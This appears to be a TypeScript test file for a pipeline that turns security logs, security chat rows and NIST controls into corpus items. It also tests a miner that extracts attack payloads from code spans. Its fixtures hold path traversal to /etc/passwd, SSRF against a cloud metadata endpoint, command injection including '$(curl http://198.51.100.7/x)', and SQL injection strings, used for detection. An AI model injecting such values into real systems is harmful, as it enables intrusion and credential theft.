import { describe, expect, it } from 'vitest';
import { fenrirRows, nistRows, witfooRows } from '../testing/corpusRows.ts';
import { ROW_ADAPTERS } from './adapters.ts';
import { cutText, type CorpusItem } from './item.ts';
import { minePayloadSeeds } from './payloadSeeds.ts';

function itemOf(adapted: CorpusItem | string): CorpusItem {
  return typeof adapted === 'string' ? expect.fail(adapted) : adapted;
}

describe('WitFoo rows', () => {
  const [row] = witfooRows(1);

  it('become log lines', () => {
    expect(ROW_ADAPTERS.witfoo({ ...row })).toEqual({ kind: 'log', text: row?.message_sanitized, seeds: [], publication: '' });
  });

  it.each([
    [{ label_binary: 'malicious' }, 'not benign'],
    [{ label_binary: 'suspicious' }, 'not benign'],
    [{ matched_rules: '["r1"]' }, 'matched a rule'],
    [{ message_sanitized: ' short ' }, 'too short'],
    [{ message_sanitized: 'a log line with {{ user }} in it' }, 'template braces'],
    [{ message_sanitized: 7 }, 'malformed'],
  ])('with %o are left out', (change, reason) => {
    expect(ROW_ADAPTERS.witfoo({ ...row, ...change })).toBe(reason);
  });
});

describe('Fenrir rows', () => {
  it('become documents without the system turn, payloads of their code beside them', () => {
    const [row] = fenrirRows(1);
    const item = itemOf(ROW_ADAPTERS.fenrir({ ...row }));
    expect(item.kind).toBe('document');
    expect(item.text).toContain(row?.user);
    expect(item.text).not.toContain('seasoned defender');
    expect(item.seeds).toHaveLength(1);
  });
});

describe('NIST rows', () => {
  it('become the text of the standard, without print marks and half sentences', () => {
    const [row] = nistRows(1);
    const item = itemOf(ROW_ADAPTERS.nist({ ...row }));
    expect(item.kind).toBe('control');
    expect(item.text).toMatch(/^[A-Z]{2}-\d+ [A-Z ]+ Control: /);
    expect(item.text).toContain('business process');
    expect(item.text).not.toMatch(/REV\. 5|unless they are|You are an expert/);
    expect(item.publication).toMatch(/^NIST\.SP\.800/);
  });

  it('are left out when they say too little', () => {
    expect(ROW_ADAPTERS.nist({ messages: [{ role: 'assistant', content: 'See AC-6.' }] })).toBe('too short');
    expect(ROW_ADAPTERS.nist({ messages: [{ role: 'user', content: 'x' }] })).toBe('no answer');
    expect(ROW_ADAPTERS.nist({ text: 'the embedding form', embedding: [0.1] })).toBe('malformed');
  });
});

describe('minePayloadSeeds', () => {
  it.each([
    ['traversal', '../../etc/passwd'],
    ['traversal', '..%2f..%2fetc%2fshadow'],
    ['ssrf', 'http://169.254.169.254/latest/meta-data/'],
    ['ssrf', 'file:///etc/passwd'],
    ['command', '; cat /etc/passwd'],
    ['command', '$(curl http://198.51.100.7/x)'],
    ['sql', "' OR '1'='1"],
    ['sql', '1 UNION SELECT name FROM users'],
  ])('finds %s in %s', (family, value) => {
    expect(minePayloadSeeds(`Look for \`${value}\` in the log.`)).toEqual([{ family, value }]);
    expect(minePayloadSeeds(`Text\n\`\`\`http\nGET /\n${value}\n\`\`\`\nmore`)).toEqual([{ family, value }]);
  });

  it.each([
    'npm install',
    'SELECT name FROM users WHERE id = ?',
    'https://example.com/a',
    'src/../lib',
    'a && b',
    'chmod 600 ~/.ssh/config',
  ])('leaves the ordinary code %s alone', (code) => expect(minePayloadSeeds(`Use \`${code}\` here.`)).toEqual([]));

  it('does not look at prose', () => {
    expect(minePayloadSeeds('An attacker sends ../../etc/passwd or ; cat /etc/passwd.')).toEqual([]);
  });
});

describe('cutText', () => {
  it('cuts at a paragraph, a sentence or a word, and never inside a character', () => {
    expect(cutText('short', 10)).toBe('short');
    expect(cutText('First part here.\n\nSecond part', 20)).toBe('First part here.');
    expect(cutText('One sentence. And another one', 20)).toBe('One sentence.');
    expect(cutText('words words words words', 14)).toBe('words words');
    expect(cutText('x'.repeat(9) + '😀'.repeat(9), 10)).toBe('x'.repeat(9));
  });
});
